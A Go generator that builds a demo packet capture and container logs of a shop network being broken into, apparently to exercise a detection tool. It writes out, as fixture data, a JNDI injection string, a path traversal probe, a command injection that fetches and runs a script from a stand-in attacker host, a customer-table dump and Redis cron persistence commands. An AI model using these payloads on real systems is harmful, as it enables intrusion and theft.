// Command generate writes the scenario of the demo: shop.pcap, the traffic on the bridge of a small shop of
// containers while one of them is broken into, and the log lines that its containers write meanwhile. `go
// generate ./cmd/tidegate/demo` runs it. Its output is the same to the byte each time, and is checked in.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log"
	"math/rand"
	"net"
	"os"
	"path/filepath"
	"sort"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcapgo"

	"tidegate/cmd/tidegate/demo"
)

// epoch is the time of the first packet in the file; the demo moves it to now.
var epoch = time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)

func main() {
	dir := "."
	if len(os.Args) > 1 {
		dir = os.Args[1]
	}
	s := &scenario{rng: rand.New(rand.NewSource(1)), logs: map[string][]logLine{}}
	s.writeAll()
	if err := s.write(dir); err != nil {
		log.Fatal(err)
	}
}

type packet struct {
	at time.Time
	b  []byte
}

type logLine struct {
	at     time.Time
	stream string
	text   string
}

// A scenario collects packets and log lines out of order and writes them in order.
type scenario struct {
	rng     *rand.Rand
	packets []packet
	logs    map[string][]logLine
	port    uint16
	id      uint16
}

var (
	web, cache, db = demo.Containers[0], demo.Containers[1], demo.Containers[2]
	gateway        = "172.30.0.1"
	resolver       = "172.30.0.53"
	attacker       = "203.0.113.66"
	command        = "203.0.113.99"
)

func (s *scenario) writeAll() {
	for i := range 40 {
		s.customer(time.Duration(i)*450*time.Millisecond, fmt.Sprintf("198.51.100.%d", 10+i%9), i)
	}
	for i := range 6 {
		s.dns(time.Duration(i)*3*time.Second+time.Second, "payments.example", "192.0.2.80")
	}
	s.breakIn(7 * time.Second)
}

// customer writes one visit of the shop: a page, for which the web server asks the cache and, after a miss,
// the database.
func (s *scenario) customer(at time.Duration, ip string, n int) {
	path := []string{"/", "/items", fmt.Sprintf("/items/%d", 100+n), "/cart", "/static/shop.css"}[n%5]
	key := fmt.Sprintf("page:%s", path)
	s.redis(at+3*time.Millisecond, []string{"GET", key}, "$-1\r\n")
	s.mysql(at+6*time.Millisecond, fmt.Sprintf("SELECT id, name, price FROM items WHERE id > %d ORDER BY id LIMIT 20", n), 20)
	s.redis(at+11*time.Millisecond, []string{"SET", key, "<html>…</html>", "EX", "30"}, "+OK\r\n")
	s.http(at, ip, web.Ip[0], 80, "GET "+path+" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html\r\nCookie: sid=c0ffee\r\n\r\n", 200, 1800+97*n)
	s.access(at, ip, "GET "+path+" HTTP/1.1", 200, 1800+97*n)
}

// breakIn writes the steps of the attacker: scan, exploit, call home, exfiltrate, persist.
func (s *scenario) breakIn(at time.Duration) {
	ua := "Mozilla/5.0 zgrab/0.x"
	probes := []struct {
		target string
		status int
	}{
		{"/.git/config", 404},
		{"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404},
		{"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D", 200},
		{"/cgi-bin/export?file=orders.csv;curl%20http://203.0.113.66/x.sh%20-o%20/tmp/x;sh%20/tmp/x", 200},
	}
	for i, p := range probes {
		t := at + time.Duration(i)*700*time.Millisecond
		s.http(t, attacker, web.Ip[0], 80, "GET "+p.target+" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: "+ua+"\r\n\r\n", p.status, 310)
		s.access(t, attacker, "GET "+p.target+" HTTP/1.1", p.status, 310)
	}
	s.log(web.Name, at+1500*time.Millisecond, "stdout", "2026/11/01 12:00:08 search: no result for query \"${jndi:ldap://203.0.113.66:1389/a}\"")
	s.log(web.Name, at+2300*time.Millisecond, "stderr", "sh: 1: /tmp/x: Permission denied")
	s.dns(at+3*time.Second, demo.FeedDomain, command)
	s.http(at+3200*time.Millisecond, web.Ip[0], command, 80, "GET /beacon?h=shop-web HTTP/1.1\r\nHost: "+demo.FeedDomain+"\r\nUser-Agent: curl/7.88.1\r\n\r\n", 200, 64)
	for i, name := range []string{"xjq7kvw2zt9hpb4m.example", "qpwzkxjvhg8t3nrd.example", "vbzkq3xwjt7hfypl.example"} {
		s.dns(at+4*time.Second+time.Duration(i)*300*time.Millisecond, name, "")
	}
	s.mysql(at+5*time.Second, "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`", 400)
	s.log(db.Name, at+5*time.Second, "stderr", "2026-11-01 12:00:12 41 [Warning] Aborted connection 41 to db: 'shop' user: 'shop' host: '172.30.0.2' (Got an error writing communication packets)")
	s.redis(at+6*time.Second, []string{"CONFIG", "SET", "dir", "/var/spool/cron"}, "+OK\r\n")
	s.redis(at+6200*time.Millisecond, []string{"CONFIG", "SET", "dbfilename", "root"}, "+OK\r\n")
	s.log(cache.Name, at+6300*time.Millisecond, "stdout", "1:M 01 Nov 2026 12:00:13.300 * DB saved on disk")
}

// access adds a line to the access log of the web server.
func (s *scenario) access(at time.Duration, ip, request string, status, size int) {
	when := epoch.Add(at).Format("02/Jan/2006:15:04:05 -0700")
	s.log(web.Name, at+15*time.Millisecond, "stdout", fmt.Sprintf("%s - - [%s] \"%s\" %d %d \"-\" \"-\"", ip, when, request, status, size))
}

func (s *scenario) log(container string, at time.Duration, stream, text string) {
	s.logs[container] = append(s.logs[container], logLine{epoch.Add(at), stream, text})
}

// http adds a connection with one request and a response whose body has size bytes.
func (s *scenario) http(at time.Duration, client, server string, port uint16, request string, status, size int) {
	conn := s.open(at, client, server, port)
	conn.send(true, []byte(request))
	phrase := map[int]string{200: "OK", 404: "Not Found"}[status]
	conn.send(false, append(fmt.Appendf(nil, "HTTP/1.1 %d %s\r\nServer: nginx/1.26\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n", status, phrase, size), bytes.Repeat([]byte("shop "), size/5+1)[:size]...))
	conn.close()
}

// redis adds a connection from the web server to the cache with one command.
func (s *scenario) redis(at time.Duration, args []string, reply string) {
	conn := s.open(at, web.Ip[0], cache.Ip[0], 6379)
	data := fmt.Appendf(nil, "*%d\r\n", len(args))
	for _, a := range args {
		data = fmt.Appendf(data, "$%d\r\n%s\r\n", len(a), a)
	}
	conn.send(true, data)
	conn.send(false, []byte(reply))
	conn.close()
}

func mysqlPacket(seq byte, p []byte) []byte {
	return append([]byte{byte(len(p)), byte(len(p) >> 8), byte(len(p) >> 16), seq}, p...)
}

func lenenc(s string) []byte { return append([]byte{byte(len(s))}, s...) }

// mysql writes a login and one query with rows in its answer, in the form of MariaDB (protocol 4.1, with EOF
// packets).
func (s *scenario) mysql(at time.Duration, query string, rows int) {
	conn := s.open(at, web.Ip[0], db.Ip[0], 3306)
	hello := append([]byte{10}, "10.11.6-MariaDB\x00\x29\x00\x00\x00abcdefgh\x00"...)
	hello = append(hello, 0xfe, 0xf7, 45, 2, 0, 0xff, 0x81, 21)
	hello = append(append(hello, make([]byte, 10)...), "ijklmnopqrst\x00mysql_native_password\x00"...)
	conn.send(false, mysqlPacket(0, hello))
	login := append([]byte{0x85, 0xa2, 0x0a, 0x00, 0, 0, 0, 1, 45}, make([]byte, 23)...)
	login = append(append(login, "shop\x00\x14"...), make([]byte, 20)...)
	login = append(login, "mysql_native_password\x00"...)
	conn.send(true, mysqlPacket(1, login))
	conn.send(false, mysqlPacket(2, []byte{0, 0, 0, 2, 0, 0, 0}))
	conn.send(true, mysqlPacket(0, append([]byte{3}, query...)))
	var r []byte
	seq := byte(1)
	put := func(p []byte) { r = append(r, mysqlPacket(seq, p)...); seq++ }
	put([]byte{3})
	for _, name := range []string{"id", "name", "email"} {
		d := append(append(lenenc("def"), lenenc("shop")...), lenenc("t")...)
		d = append(append(append(d, lenenc("t")...), lenenc(name)...), lenenc(name)...)
		put(append(d, 0x0c, 45, 0, 255, 0, 0, 0, 253, 0, 0, 0, 0, 0))
	}
	put([]byte{0xfe, 0, 0, 2, 0})
	for i := range rows {
		put(append(append(lenenc(fmt.Sprint(i)), lenenc("Jo Example")...), lenenc(fmt.Sprintf("jo%d@mail.example", i))...))
	}
	put([]byte{0xfe, 0, 0, 2, 0})
	conn.send(false, r)
	conn.send(true, mysqlPacket(0, []byte{1}))
	conn.close()
}

// dns writes a query of the web container to the resolver. Without an address the answer is that the name
// does not exist.
func (s *scenario) dns(at time.Duration, name, address string) {
	s.port++
	q := &layers.DNS{ID: uint16(s.rng.Intn(1 << 16)), RD: true, QDCount: 1, Questions: []layers.DNSQuestion{{Name: []byte(name), Type: layers.DNSTypeA, Class: layers.DNSClassIN}}}
	a := *q
	a.QR, a.RA = true, true
	if address == "" {
		a.ResponseCode = layers.DNSResponseCodeNXDomain
	} else {
		a.ANCount = 1
		a.Answers = []layers.DNSResourceRecord{{Name: []byte(name), Type: layers.DNSTypeA, Class: layers.DNSClassIN, TTL: 60, IP: net.ParseIP(address)}}
	}
	port := layers.UDPPort(40000 + s.port)
	s.udp(at, web.Ip[0], resolver, &layers.UDP{SrcPort: port, DstPort: 53}, q)
	s.udp(at+4*time.Millisecond, resolver, web.Ip[0], &layers.UDP{SrcPort: 53, DstPort: port}, &a)
}

func (s *scenario) udp(at time.Duration, from, to string, u *layers.UDP, payload gopacket.SerializableLayer) {
	ip := s.ip(from, to, layers.IPProtocolUDP)
	_ = u.SetNetworkLayerForChecksum(ip)
	s.emit(at, ethernet(from, to), ip, u, payload)
}

func (s *scenario) ip(from, to string, proto layers.IPProtocol) *layers.IPv4 {
	s.id++
	return &layers.IPv4{Version: 4, TTL: 64, Id: s.id, Protocol: proto, SrcIP: net.ParseIP(from), DstIP: net.ParseIP(to)}
}

// ethernet addresses hosts of the bridge by their last byte; all other hosts are behind the gateway.
func ethernet(from, to string) *layers.Ethernet {
	mac := func(ip string) net.HardwareAddr {
		a := net.ParseIP(ip).To4()
		if a[0] != 172 {
			a = net.ParseIP(gateway).To4()
		}
		return net.HardwareAddr{0x02, 0x42, a[0], a[1], a[2], a[3]}
	}
	return &layers.Ethernet{SrcMAC: mac(from), DstMAC: mac(to), EthernetType: layers.EthernetTypeIPv4}
}

func (s *scenario) emit(at time.Duration, ls ...gopacket.SerializableLayer) {
	buf := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, ls...); err != nil {
		log.Fatal(err)
	}
	s.packets = append(s.packets, packet{epoch.Add(at), bytes.Clone(buf.Bytes())})
}

// A conn is one TCP connection of the scenario.
type conn struct {
	s              *scenario
	at             time.Duration
	client, server string
	cp, sp         uint16
	seq            [2]uint32
}

// open adds the three-way handshake of a new connection.
func (s *scenario) open(at time.Duration, client, server string, port uint16) *conn {
	s.port++
	c := &conn{s: s, at: at, client: client, server: server, cp: 30000 + s.port, sp: port, seq: [2]uint32{s.rng.Uint32(), s.rng.Uint32()}}
	c.segment(true, &layers.TCP{SYN: true}, nil)
	c.segment(false, &layers.TCP{SYN: true, ACK: true}, nil)
	c.segment(true, &layers.TCP{ACK: true}, nil)
	return c
}

// segment adds one TCP segment 90 µs after the previous one, and advances the sequence number of its sender.
func (c *conn) segment(fromClient bool, tcp *layers.TCP, payload []byte) {
	c.at += 90 * time.Microsecond
	me, other, from, to := 0, 1, c.client, c.server
	tcp.SrcPort, tcp.DstPort = layers.TCPPort(c.cp), layers.TCPPort(c.sp)
	if !fromClient {
		me, other, from, to = 1, 0, c.server, c.client
		tcp.SrcPort, tcp.DstPort = tcp.DstPort, tcp.SrcPort
	}
	tcp.Seq, tcp.Window = c.seq[me], 64240
	if tcp.ACK {
		tcp.Ack = c.seq[other]
	}
	ip := c.s.ip(from, to, layers.IPProtocolTCP)
	_ = tcp.SetNetworkLayerForChecksum(ip)
	c.s.emit(c.at, ethernet(from, to), ip, tcp, gopacket.Payload(payload))
	c.seq[me] += uint32(len(payload))
	if tcp.SYN || tcp.FIN {
		c.seq[me]++
	}
}

func (c *conn) send(fromClient bool, data []byte) {
	for len(data) > 0 {
		n := min(len(data), 1448)
		c.segment(fromClient, &layers.TCP{ACK: true, PSH: n == len(data)}, data[:n])
		data = data[n:]
	}
	c.segment(!fromClient, &layers.TCP{ACK: true}, nil)
}

func (c *conn) close() {
	c.segment(true, &layers.TCP{ACK: true, FIN: true}, nil)
	c.segment(false, &layers.TCP{ACK: true, FIN: true}, nil)
	c.segment(true, &layers.TCP{ACK: true}, nil)
}

// write writes the capture and the log files, each in order of time.
func (s *scenario) write(dir string) error {
	sort.SliceStable(s.packets, func(i, j int) bool { return s.packets[i].at.Before(s.packets[j].at) })
	var buf bytes.Buffer
	writer := pcapgo.NewWriter(&buf)
	if err := writer.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		return err
	}
	for _, p := range s.packets {
		if err := writer.WritePacket(gopacket.CaptureInfo{Timestamp: p.at, CaptureLength: len(p.b), Length: len(p.b)}, p.b); err != nil {
			return err
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "shop.pcap"), buf.Bytes(), 0o644); err != nil {
		return err
	}
	for name, lines := range s.logs {
		sort.SliceStable(lines, func(i, j int) bool { return lines[i].at.Before(lines[j].at) })
		if err := writeLog(filepath.Join(dir, name+".log"), lines); err != nil {
			return err
		}
	}
	return nil
}

// writeLog writes records in the form of Docker's json-file driver.
func writeLog(path string, lines []logLine) error {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	for _, l := range lines {
		err := enc.Encode(struct {
			Log    string `json:"log"`
			Stream string `json:"stream"`
			Time   string `json:"time"`
		}{l.text + "\n", l.stream, l.at.Format(time.RFC3339Nano)})
		if err != nil {
			return err
		}
	}
	return os.WriteFile(path, buf.Bytes(), 0o644)
}
